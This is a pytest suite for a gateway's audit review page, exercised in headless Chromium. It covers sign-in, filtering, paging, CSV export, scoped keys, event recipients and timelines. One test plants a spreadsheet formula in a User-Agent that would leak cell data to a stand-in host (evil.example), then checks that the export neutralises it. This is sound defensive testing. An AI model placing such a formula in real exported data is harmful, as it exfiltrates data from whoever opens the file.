"""The audit review page in real headless Chromium against a real gateway.

Needs the ``playwright`` package (``pip install -e '.[test]'``) and a Chromium
binary: ``WSGATE_TEST_CHROMIUM``, else ``chromium`` on PATH (Debian:
``apt-get install chromium``). Without them the test skips, except under
``CI=true`` where it fails. ``WSGATE_REVIEW_SCREENSHOTS=docs`` saves the
screenshots docs/operations.md and the README show (review-page.png,
review-timeline.png, review-recipients.png, review-overview.png) into that folder.
"""

import csv
import io
import json
import os
import shutil
from typing import Any

import pytest
import tornado.httpclient

from tests.conftest import (
    CUSTOMER,
    OTHER_AGENT,
    OTHER_CUSTOMER,
    event,
    service_missing,
    wait_for,
)
from wsgate.audit.query import FIELDS

pytestmark = pytest.mark.browser

REVIEW_KEY = "review-key"
CALLS = [f"customer_id:{CUSTOMER}:call:c{i:02d}" for i in range(30)]
FOREIGN = f"customer_id:{OTHER_CUSTOMER}:call"
CHROMIUM_ARGS = ["--no-sandbox", "--headless", "--disable-gpu", "--disable-background-networking",
                 "--disable-component-update", "--disable-sync", "--no-first-run"]


def chromium_or_skip():
    try:
        import playwright.async_api  # noqa: F401
    except ImportError:
        service_missing("the playwright package")
    path = os.environ.get("WSGATE_TEST_CHROMIUM") or shutil.which("chromium") \
        or shutil.which("chromium-browser")
    if not path:
        service_missing("headless Chromium (apt-get install chromium, or WSGATE_TEST_CHROMIUM)")
    return path


async def audit_history(server):
    """A session whose audit log holds 36 rows: alice's 30 accepted and 1 rejected
    subscribes, bob's rejected one, an access key's 2 subscribes and their 2
    disconnect ends. Returns that count."""
    admin = await server.connect("admin-token")
    reply = await admin.subscribe(*CALLS, FOREIGN)
    assert len(reply["topics"]) == 30 and reply["rejected"][0]["code"] == "forbidden"
    agent = await server.connect("agent-token")
    assert (await agent.subscribe(f"customer_id:{CUSTOMER}"))["rejected"][0]["code"] == "forbidden"
    key = await server.connect("accesskey-token")
    await key.subscribe(CALLS[0], CALLS[1])
    key.ws.close(1000)
    # The disconnect rows of the access key are written in the background.
    await server_rows(server, expect=36)
    return 36


async def recipients_answer(server: Any, event_id: str) -> Any:
    """GET /v1.0/audit/recipients/<event_id> with the full review key, once it answers 200
    (the 202 of the POST already follows the event's record; this only allows for a
    slow machine)."""
    http = tornado.httpclient.AsyncHTTPClient()

    async def recorded() -> Any:
        response = await http.fetch(f"{server.base}/v1.0/audit/recipients/{event_id}",
                                    headers={"Authorization": f"Bearer {REVIEW_KEY}"},
                                    raise_error=False)
        return response.code == 200 and json.loads(response.body)

    return await wait_for(recorded, 10, interval=0.05, message="the event was not recorded")


async def server_rows(server, expect, timeout=10.0):
    """Wait until the audit API reports expect rows; return them."""
    import json

    http = tornado.httpclient.AsyncHTTPClient()
    rows = []

    async def reported():
        response = await http.fetch(server.base + "/v1.0/audit?limit=1000",
                                    headers={"Authorization": f"Bearer {REVIEW_KEY}"})
        rows[:] = json.loads(response.body)["rows"]
        assert len(rows) <= expect, rows
        return len(rows) == expect

    await wait_for(reported, timeout, interval=0.02, message=lambda: f"only {len(rows)} rows")
    return rows


@pytest.mark.gen_test(timeout=60)
async def test_review_page_in_chromium(make_server, tmp_path):
    chromium = chromium_or_skip()
    from playwright.async_api import async_playwright, expect

    server = await make_server(audit={"api_keys": [REVIEW_KEY]})
    total = await audit_history(server)

    async with async_playwright() as pw:
        browser = await pw.chromium.launch(executable_path=chromium, args=CHROMIUM_ARGS)
        try:
            context = await browser.new_context(accept_downloads=True,
                                                viewport={"width": 1400, "height": 900})
            page = await context.new_page()
            urls = []
            page.on("request", lambda request: urls.append(request.url))
            rows = page.locator("#rows tbody tr")

            await page.goto(server.base + "/audit/")
            # A wrong key is refused in words, and nothing is shown.
            await page.fill("#key", "not-the-key")
            await page.click("#sign-in-button")
            await expect(page.locator("#sign-in-error")).to_contain_text("not accepted")
            await expect(page.locator("#review")).to_be_hidden()

            await page.fill("#key", REVIEW_KEY)
            await page.click("#sign-in-button")
            await expect(rows).to_have_count(total)

            # Filter: bob's rejected subscribe only.
            await page.fill("input[name=subject]", "bob")
            await page.select_option("select[name=outcome]", "rejected")
            await page.click("#search")
            await expect(rows).to_have_count(1)
            await expect(rows.first.locator("td[data-column=code]")).to_have_text("forbidden")
            await expect(rows.first.locator("td[data-column=topic]")).to_have_text(
                f"customer_id:{CUSTOMER}")

            # Paging: 25 a page over every row.
            await page.click("#clear")
            await page.select_option("select[name=limit]", "25")
            await expect(rows).to_have_count(25)
            await expect(page.locator("#page-info")).to_have_text("Page 1 · rows 1–25")
            first_seq = await rows.first.locator("td[data-column=seq]").text_content()
            await page.click("#next")
            await expect(rows).to_have_count(total - 25)
            await expect(page.locator("#page-info")).to_have_text(
                f"Page 2 · rows 26–{total}")
            await expect(page.locator("#next")).to_be_disabled()
            await page.click("#prev")
            await expect(rows).to_have_count(25)
            await expect(rows.first.locator("td[data-column=seq]")).to_have_text(first_seq)

            # Export the current filter: alice's accepted rows of one topic prefix.
            await page.fill("input[name=subject]", "alice")
            await page.fill("input[name=topic_prefix]", f"customer_id:{CUSTOMER}:call")
            await page.select_option("select[name=outcome]", "accepted")
            await page.click("#search")
            await expect(rows).to_have_count(25)
            async with page.expect_download() as info:
                await page.click("#export")
            download = await info.value
            assert download.suggested_filename.startswith("wsgate-audit-")
            saved = tmp_path / "export.csv"
            await download.save_as(saved)
            exported = list(csv.reader(io.StringIO(saved.read_text())))
            assert tuple(exported[0]) == FIELDS
            body = [dict(zip(FIELDS, r, strict=True)) for r in exported[1:]]
            assert len(body) == 30
            assert sorted(r["topic"] for r in body) == sorted(CALLS)
            assert {(r["subject"], r["outcome"], r["action"]) for r in body} == {
                ("alice", "accepted", "subscribe")}

            # Verify the chain, answered in words.
            await page.click("#verify")
            result = page.locator("#verify-result")
            await expect(result).to_contain_text("The audit log is whole")
            await expect(result).to_contain_text(f"{total} subscription rows")

            # The verdict stays while the reviewer pages on: the mixed last page.
            await page.click("#clear")
            await page.click("#next")
            await expect(rows).to_have_count(total - 25)
            await expect(page.locator("tr.rejected")).to_have_count(2)
            await expect(result).to_contain_text("The audit log is whole")

            # The key never travelled in a URL, and the page kept it to this tab.
            assert urls and not [u for u in urls if REVIEW_KEY in u]
            assert await page.evaluate("sessionStorage.getItem('wsgate-audit-key')") == REVIEW_KEY
            await page.click("#sign-out")
            await expect(page.locator("#sign-in")).to_be_visible()
            assert await page.evaluate("sessionStorage.getItem('wsgate-audit-key')") is None
            await context.close()
        finally:
            await browser.close()


@pytest.mark.gen_test(timeout=20)
async def test_review_page_and_export_are_off_without_audit_keys(make_server):
    server = await make_server()
    http = tornado.httpclient.AsyncHTTPClient()
    for path in ("/audit", "/audit/", "/audit/review.js", "/v1.0/audit/export.csv"):
        response = await http.fetch(server.base + path, raise_error=False)
        assert response.code == 404, path
        # Not "no such endpoint": the answer says what is off and how to turn it on.
        error = json.loads(response.body)["error"]
        assert error["code"] == "not_found", path
        assert "is off: set [audit] api_keys to enable it" in error["message"], path
    response = await http.fetch(server.base + "/audit/", raise_error=False)
    assert json.loads(response.body)["error"]["message"].startswith("the audit review page")


@pytest.mark.gen_test(timeout=20)
async def test_review_page_headers_keep_it_self_contained(make_server):
    server = await make_server(audit={"api_keys": [REVIEW_KEY]})
    http = tornado.httpclient.AsyncHTTPClient()
    response = await http.fetch(server.base + "/audit/")
    assert b'<script src="review.js"' in response.body
    csp = response.headers["Content-Security-Policy"]
    assert "script-src 'self'" in csp and "form-action 'none'" in csp
    assert response.headers["X-Frame-Options"] == "DENY"
    response = await http.fetch(server.base + "/audit", follow_redirects=False,
                                raise_error=False)
    assert response.code in (301, 302) and response.headers["Location"] == "/audit/"


@pytest.mark.gen_test(timeout=20)
async def test_export_needs_the_key_and_checks_filters(make_server):
    server = await make_server(audit={"api_keys": [REVIEW_KEY]})
    http = tornado.httpclient.AsyncHTTPClient()
    url = server.base + "/v1.0/audit/export.csv"
    response = await http.fetch(url, raise_error=False)
    assert response.code == 401
    response = await http.fetch(url + "?outcome=maybe", raise_error=False,
                                headers={"Authorization": f"Bearer {REVIEW_KEY}"})
    assert response.code == 400 and b"outcome" in response.body
    response = await http.fetch(url, headers={"Authorization": f"Bearer {REVIEW_KEY}"})
    assert response.headers["Content-Type"].startswith("text/csv")
    assert response.body.decode().splitlines() == [",".join(FIELDS)]


@pytest.mark.gen_test(timeout=30)
async def test_export_streams_every_page(make_server, monkeypatch):
    # Pages of 2 rows make the export read several pages and join them.
    monkeypatch.setattr("wsgate.adapters.review.MAX_PAGE", 2)
    server = await make_server(audit={"api_keys": [REVIEW_KEY]})
    client = await server.connect("admin-token")
    await client.subscribe(*CALLS[:5])
    http = tornado.httpclient.AsyncHTTPClient()
    response = await http.fetch(server.base + "/v1.0/audit/export.csv?subject=alice",
                                headers={"Authorization": f"Bearer {REVIEW_KEY}"})
    lines = list(csv.reader(io.StringIO(response.body.decode())))
    assert tuple(lines[0]) == FIELDS
    assert [r[FIELDS.index("topic")] for r in lines[1:]] == CALLS[:5]
    assert [int(r[0]) for r in lines[1:]] == [1, 2, 3, 4, 5]


@pytest.mark.gen_test(timeout=30)
async def test_export_quotes_what_a_spreadsheet_would_run(make_server):
    # The review's finding: a client's User-Agent landed in the CSV as a live formula.
    hostile_ua = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    server = await make_server(audit={"api_keys": [REVIEW_KEY]})
    client = await server.connect("admin-token", headers={"User-Agent": hostile_ua})
    reply = await client.subscribe(CALLS[0], "-1+2", "@SUM(A1)", "+1")
    assert [r["code"] for r in reply["rejected"]] == ["invalid_topic"] * 3
    http = tornado.httpclient.AsyncHTTPClient()
    response = await http.fetch(server.base + "/v1.0/audit/export.csv",
                                headers={"Authorization": f"Bearer {REVIEW_KEY}"})
    rows = list(csv.DictReader(io.StringIO(response.body.decode(), newline="")))
    assert [r["topic"] for r in rows] == [CALLS[0], "'-1+2", "'@SUM(A1)", "'+1"]
    assert {r["user_agent"] for r in rows} == {"'" + hostile_ua}
    assert rows[0]["code"] == "" and rows[0]["outcome"] == "accepted"  # empty: empty cell
    # The JSON API shows the same rows exactly as stored, empty as null.
    rows = await server_rows(server, expect=4)
    assert [r["topic"] for r in rows] == [CALLS[0], "-1+2", "@SUM(A1)", "+1"]
    assert {r["user_agent"] for r in rows} == {hostile_ua}
    assert rows[0]["code"] is None


@pytest.mark.gen_test(timeout=30)
async def test_a_reviewer_who_leaves_mid_export_is_no_uncaught_exception(
        make_server, monkeypatch, caplog):
    """The browser closes while the CSV streams: the export stops quietly (one INFO
    line), not with Tornado's "Uncaught exception" traceback."""
    import asyncio
    import socket
    import struct

    caplog.set_level("INFO")
    monkeypatch.setattr("wsgate.adapters.review.MAX_PAGE", 1)
    server = await make_server(audit={"api_keys": [REVIEW_KEY]})
    client = await server.connect("admin-token")
    await client.subscribe(*CALLS)
    reader, writer = await asyncio.open_connection("127.0.0.1", server.port)
    writer.write(b"GET /v1.0/audit/export.csv HTTP/1.1\r\nHost: x\r\n"
                 b"Authorization: Bearer " + REVIEW_KEY.encode() + b"\r\n\r\n")
    await writer.drain()
    assert (await reader.readuntil(b"\r\n\r\n")).startswith(b"HTTP/1.1 200")
    # Leave at once and hard (RST): the next flush of the export fails.
    sock = writer.get_extra_info("socket")
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    writer.close()
    await wait_for(lambda: any("closed the connection before the end" in r.getMessage()
                               for r in caplog.records), timeout=10)
    assert not [r for r in caplog.records if r.levelname in ("ERROR", "CRITICAL")]


@pytest.mark.gen_test(timeout=60)
async def test_a_scoped_review_key_sees_only_its_customers_rows_in_chromium(
        make_server, tmp_path):
    """SPEC §6 "Scoped review keys": the page, its export and verify, in Chromium."""
    chromium = chromium_or_skip()
    from playwright.async_api import async_playwright, expect

    acme_key = "acme-review-key"
    server = await make_server(audit={"api_keys": [
        REVIEW_KEY, {"key": acme_key, "customers": [CUSTOMER]}]})
    ours = await audit_history(server)  # all of CUSTOMER
    root, root_id = await connected(server, "super-token")  # a principal of OTHER_CUSTOMER
    secret = f"customer_id:{OTHER_CUSTOMER}:call:other-customers-call"
    assert (await root.subscribe(secret))["topics"] == [secret]
    reply = await root.subscribe("-x")
    assert [r["code"] for r in reply["rejected"]] == ["invalid_topic"]
    await server_rows(server, expect=ours + 2)
    # An event of the other customer only, and the only connection that got it.
    status, body = await server.post(event(customer_id=OTHER_CUSTOMER, event_id=EVENT_ID,
                                           data={"id": "other-customers-call"}))
    assert status in (200, 202), body
    assert (await root.recv())["event_id"] == EVENT_ID
    everyone = await recipients_answer(server, EVENT_ID)
    assert [r["connection_id"] for r in everyone["recipients"]] == [root_id]

    async with async_playwright() as pw:
        browser = await pw.chromium.launch(executable_path=chromium, args=CHROMIUM_ARGS)
        try:
            context = await browser.new_context(accept_downloads=True,
                                                viewport={"width": 1400, "height": 900})
            page = await context.new_page()
            rows = page.locator("#rows tbody tr")
            await page.goto(server.base + "/audit/")
            await page.fill("#key", acme_key)
            await page.click("#sign-in-button")
            await page.select_option("select[name=limit]", "100")
            await expect(rows).to_have_count(ours)
            customers = await page.locator("td[data-column=customer_id] .id-text"
                                           ).evaluate_all("(ids) => ids.map((i) => i.title)")
            assert len(customers) == ours and set(customers) == {CUSTOMER}
            assert "other-customers-call" not in await page.content()

            # Filtering another customer is refused, in words, with no row shown.
            await page.fill("input[name=customer]", OTHER_CUSTOMER)
            await page.click("#search")
            await expect(page.locator("#status")).to_contain_text("only its customers")
            assert "other-customers-call" not in await page.content()

            await page.click("#clear")
            await expect(rows).to_have_count(ours)
            async with page.expect_download() as info:
                await page.click("#export")
            saved = tmp_path / "scoped.csv"
            await (await info.value).save_as(saved)
            exported = list(csv.reader(io.StringIO(saved.read_text())))
            body = [dict(zip(FIELDS, r, strict=True)) for r in exported[1:]]
            assert len(body) == ours and {r["customer_id"] for r in body} == {CUSTOMER}
            assert "other-customers-call" not in saved.read_text()

            await page.click("#verify")
            await expect(page.locator("#verify-result")).to_contain_text(
                "needs an audit API key without customers")

            # The overview counts only its customers' rows: no root, no invalid_topic.
            await page.click("#tab-overview")
            codes = page.locator("#chart-codes a.bar-link")
            await expect(codes).to_have_count(1)
            await expect(codes).to_have_attribute("aria-label", "forbidden: 2")
            labels = await page.locator("#chart-principals a.bar-link").evaluate_all(
                "(links) => links.map((a) => a.getAttribute('aria-label'))")
            assert sorted(labels) == [f"alice · {CUSTOMER[:8]}…: 1",
                                      f"bob · {CUSTOMER[:8]}…: 1"], labels
            # Another customer's connection and event: "not found", nothing shown.
            await page.evaluate("(h) => { location.hash = h; }", f"#connection/{root_id}")
            await expect(page.locator("#status")).to_contain_text(
                "no audit row of this connection is recorded that this key may read")
            await expect(page.locator("#timeline li")).to_have_count(0)
            await page.evaluate("(h) => { location.hash = h; }", f"#recipients/{EVENT_ID}")
            await expect(page.locator("#status")).to_contain_text(
                "no event with this id is recorded that this key may read")
            await expect(page.locator("#recipients tbody tr")).to_have_count(0)
            # Nothing of theirs anywhere on the page (the id typed into the address is
            # only echoed in the timeline's heading and its link).
            assert "other-customers-call" not in await page.content()
            shown = await page.evaluate(
                "() => ['timeline-info', 'timeline', 'event-info', 'recipients', 'rows']"
                ".map((id) => document.getElementById(id).textContent).join(' ')")
            assert root_id not in shown and "root" not in shown
            await context.close()
        finally:
            await browser.close()


# --- issue 19: recipients, connection timeline, overview, a table that fits ------------

EVENT_ID = "7d1c2a9e-da9b-11ee-b3a6-5f2b4c1d2e3f"
#: The screenshots of docs/operations.md, written when WSGATE_REVIEW_SCREENSHOTS names a folder.
SHOTS = ("review-page.png", "review-timeline.png", "review-recipients.png",
         "review-overview.png")

FITS = """() => {
  const doc = document.documentElement;
  const boxes = [...document.querySelectorAll('.table-wrap, .chart, #timeline, .facts')]
    .filter((e) => e.offsetParent !== null);
  const heads = [...document.querySelectorAll('table:not([hidden]) th')]
    .filter((e) => e.offsetParent !== null);
  return {page: [doc.scrollWidth, doc.clientWidth],
          boxes: boxes.map((e) => [e.id || e.className, e.scrollWidth, e.clientWidth]),
          columns: heads.map((e) => [e.textContent, Math.round(e.getBoundingClientRect().width)])};
}"""


async def connected(server, token):
    """A client and its connection id (from its connected frame)."""
    client = await server.connect(token, expect_connected=False)
    hello = await client.recv()
    assert hello["type"] == "connected", hello
    return client, hello["connection_id"]


async def assert_fits(page, inner_too):
    """Nothing scrolls the page sideways; with inner_too, no table or chart box either
    (every column, the Customer one included, is on screen)."""
    fit = await page.evaluate(FITS)
    assert fit["page"][0] <= fit["page"][1], fit
    if inner_too:
        assert all(scroll <= client for _, scroll, client in fit["boxes"]), fit


async def shot(page, name):
    folder = os.environ.get("WSGATE_REVIEW_SCREENSHOTS")
    if folder:
        assert name in SHOTS
        await page.screenshot(path=os.path.join(folder, name), full_page=True)


@pytest.mark.gen_test(timeout=120)
async def test_recipients_timeline_and_overview_in_chromium(make_server):
    chromium = chromium_or_skip()
    from playwright.async_api import async_playwright, expect

    server = await make_server(audit={"api_keys": [REVIEW_KEY]})
    call = f"customer_id:{CUSTOMER}:call"
    alice, alice_id = await connected(server, "admin-token")
    reply = await alice.subscribe(*CALLS[:5], FOREIGN)
    assert len(reply["topics"]) == 5 and [r["code"] for r in reply["rejected"]] == ["forbidden"]
    manager, manager_id = await connected(server, "manager-token")
    assert (await manager.subscribe(call))["topics"] == [call]
    key, _ = await connected(server, "accesskey-token")
    assert (await key.subscribe(CALLS[4]))["topics"] == [CALLS[4]]
    direct, direct_id = await connected(server, "direct-token")
    assert (await direct.subscribe(CALLS[3]))["topics"] == [CALLS[3]]
    bob, bob_id = await connected(server, "agent-token")
    reply = await bob.subscribe(f"customer_id:{CUSTOMER}", FOREIGN, "-1+2")
    assert [r["code"] for r in reply["rejected"]] == ["forbidden", "forbidden", "invalid_topic"]
    carol, _ = await connected(server, "other-agent-token")
    reply = await carol.subscribe(f"agent_id:{OTHER_AGENT}", CALLS[3])
    assert reply["topics"] == [f"agent_id:{OTHER_AGENT}"]
    assert [r["code"] for r in reply["rejected"]] == ["forbidden"]
    gone, gone_id = await connected(server, "admin-token")
    assert (await gone.subscribe(CALLS[3]))["topics"] == [CALLS[3]]
    gone.ws.close(1000)
    total = 16
    await server_rows(server, expect=total)

    # A real event on call c03: exactly alice, the manager and the direct token get it.
    status, body = await server.post(event(event_id=EVENT_ID, data={"id": "c03"}))
    assert status in (200, 202), body
    got = {}
    for name, client in [("alice", alice), ("manager", manager), ("direct", direct)]:
        frame = await client.recv()
        assert frame.get("event_id") == EVENT_ID, (name, frame)
        got[name] = frame
    for client in (key, bob, carol):
        await client.no_frame()
    receivers = {alice_id, manager_id, direct_id}
    api_answer = await recipients_answer(server, EVENT_ID)
    assert {r["connection_id"] for r in api_answer["recipients"]} == receivers

    async with async_playwright() as pw:
        browser = await pw.chromium.launch(executable_path=chromium, args=CHROMIUM_ARGS)
        try:
            context = await browser.new_context(viewport={"width": 1280, "height": 900})
            page = await context.new_page()
            errors = []
            page.on("pageerror", lambda exc: errors.append(str(exc)))
            # Not the answers the page shows in words (a 400 below), only its own failures.
            page.on("console", lambda msg: msg.type == "error" and not msg.text.startswith(
                "Failed to load resource") and errors.append(msg.text))
            rows = page.locator("#rows tbody tr")
            await page.goto(server.base + "/audit/")
            await page.fill("#key", REVIEW_KEY)
            await page.click("#sign-in-button")
            await expect(rows).to_have_count(total)

            # 4. The table fits at 1280 px: long ids shortened, full value on hover and copy.
            await assert_fits(page, inner_too=True)
            customer = page.locator("#rows th", has_text="Customer")
            box = await customer.bounding_box()
            assert box and box["x"] + box["width"] <= 1280
            first_customer = rows.first.locator("td[data-column=customer_id] .id-text")
            await expect(first_customer).to_have_text(CUSTOMER[:8] + "…")
            await expect(first_customer).to_have_attribute("title", CUSTOMER)
            copy = rows.first.locator("td[data-column=customer_id] button.copy")
            await expect(copy).to_have_attribute("data-copy", CUSTOMER)
            await context.grant_permissions(["clipboard-read", "clipboard-write"])
            await copy.click()
            await expect(copy).to_have_attribute("title", "Copied")
            assert await page.evaluate("navigator.clipboard.readText()") == CUSTOMER
            await shot(page, "review-page.png")

            # 2. Any connection id opens that connection's timeline; Back returns.
            link = page.locator(f"#rows td[data-column=connection_id] a[title='{alice_id}']")
            await link.first.click()
            await expect(page.locator("#view-timeline")).to_be_visible()
            assert page.url.endswith(f"#connection/{alice_id}")
            info = page.locator("#timeline-info")
            await expect(info).to_contain_text("alice (agent)")
            await expect(info).to_contain_text("no end recorded")
            items = page.locator("#timeline li")
            await expect(items).to_have_count(6)
            await expect(page.locator("#timeline li.rejected")).to_have_count(1)
            await expect(page.locator("#timeline li.rejected")).to_contain_text(
                "subscribe rejected (forbidden)")
            await assert_fits(page, inner_too=True)
            await page.go_back()
            await expect(page.locator("#view-rows")).to_be_visible()
            await expect(rows).to_have_count(total)
            # A closed connection's timeline ends with the reason its rows give.
            await page.locator(
                f"#rows td[data-column=connection_id] a[title='{gone_id}']").first.click()
            await expect(info).to_contain_text("closed: disconnect")
            await expect(items).to_have_count(2)
            await shot(page, "review-timeline.png")

            # 1. Recipients of the posted event: exactly the connections that got the frame.
            await page.click("#tab-recipients")
            await page.fill("#event-id", EVENT_ID)
            await page.click("#find-recipients")
            listed = page.locator("#recipients td[data-column=connection_id] .id-text")
            await expect(listed).to_have_count(len(receivers))
            assert set(await listed.evaluate_all("(ids) => ids.map((a) => a.title)")) == receivers
            await expect(page.locator("#event-info")).to_contain_text("call_created")
            await expect(page.locator("#event-info")).to_contain_text(f"{call}:c03")
            await expect(page.locator("#recipients-count")).to_contain_text("3 connections")
            assert page.url.endswith(f"#recipients/{EVENT_ID}")
            await assert_fits(page, inner_too=True)
            await shot(page, "review-recipients.png")
            await page.locator(f"#recipients a[title='{direct_id}']").click()
            await expect(info).to_contain_text("direct-1 (direct)")
            await page.go_back()
            await expect(listed).to_have_count(len(receivers))
            # An id that is not one: the API's 400 in words.
            await page.fill("#event-id", "not-an-event")
            await page.click("#find-recipients")
            await expect(page.locator("#status")).to_contain_text("event id: must be the UUID")

            # 3. The overview: every bar's number is the count of the rows its link shows.
            await page.click("#tab-overview")
            bars = page.locator("#view-overview a.bar-link")
            await expect(page.locator("#chart-codes a.bar-link")).to_have_count(2)
            await assert_fits(page, inner_too=True)
            await shot(page, "review-overview.png")
            found = await bars.evaluate_all(
                "(links) => links.map((a) => [a.dataset.kind, Number(a.dataset.count),"
                " a.getAttribute('href')])")
            kinds = {}
            for kind, count, _ in found:
                kinds[kind] = kinds.get(kind, 0) + count
            # Known from the clients above: 10 accepted subscribes, 5 refused ones
            # (alice 1, bob 3, carol 1), 4 of them forbidden and 1 invalid_topic.
            assert kinds == {"subscribes": 10, "refusals": 5, "principal": 5, "code": 5}, found
            principals = await page.locator("#chart-principals a.bar-link").evaluate_all(
                "(links) => links.map((a) => [a.getAttribute('aria-label'),"
                " Number(a.dataset.count)])")
            assert principals[0] == [f"bob · {CUSTOMER[:8]}…: 3", 3], principals
            for index, (kind, count, href) in enumerate(found):
                await bars.nth(index).click()
                await expect(page.locator("#view-rows")).to_be_visible()
                assert page.url.endswith(href)
                await expect(rows).to_have_count(count)
                outcomes = set(await page.locator(
                    "#rows td[data-column=outcome]").all_text_contents())
                assert outcomes == ({"accepted"} if kind == "subscribes" else {"rejected"})
                await page.go_back()
                await expect(page.locator("#view-overview")).to_be_visible()
                await expect(bars).to_have_count(len(found))

            # A narrow screen: rows become cards, nothing scrolls sideways.
            await page.set_viewport_size({"width": 400, "height": 900})
            for view in ("#rows", "#overview", f"#recipients/{EVENT_ID}",
                         f"#connection/{alice_id}"):
                await page.evaluate("(h) => { location.hash = h; }", view)
                await page.wait_for_function("() => !document.getElementById('status')"
                                             ".textContent.startsWith('Loading')")
                await assert_fits(page, inner_too=False)
            await page.evaluate("(h) => { location.hash = h; }", "#rows")
            await expect(rows).to_have_count(total)
            await assert_fits(page, inner_too=True)
            assert not errors, errors
            await context.close()
        finally:
            await browser.close()
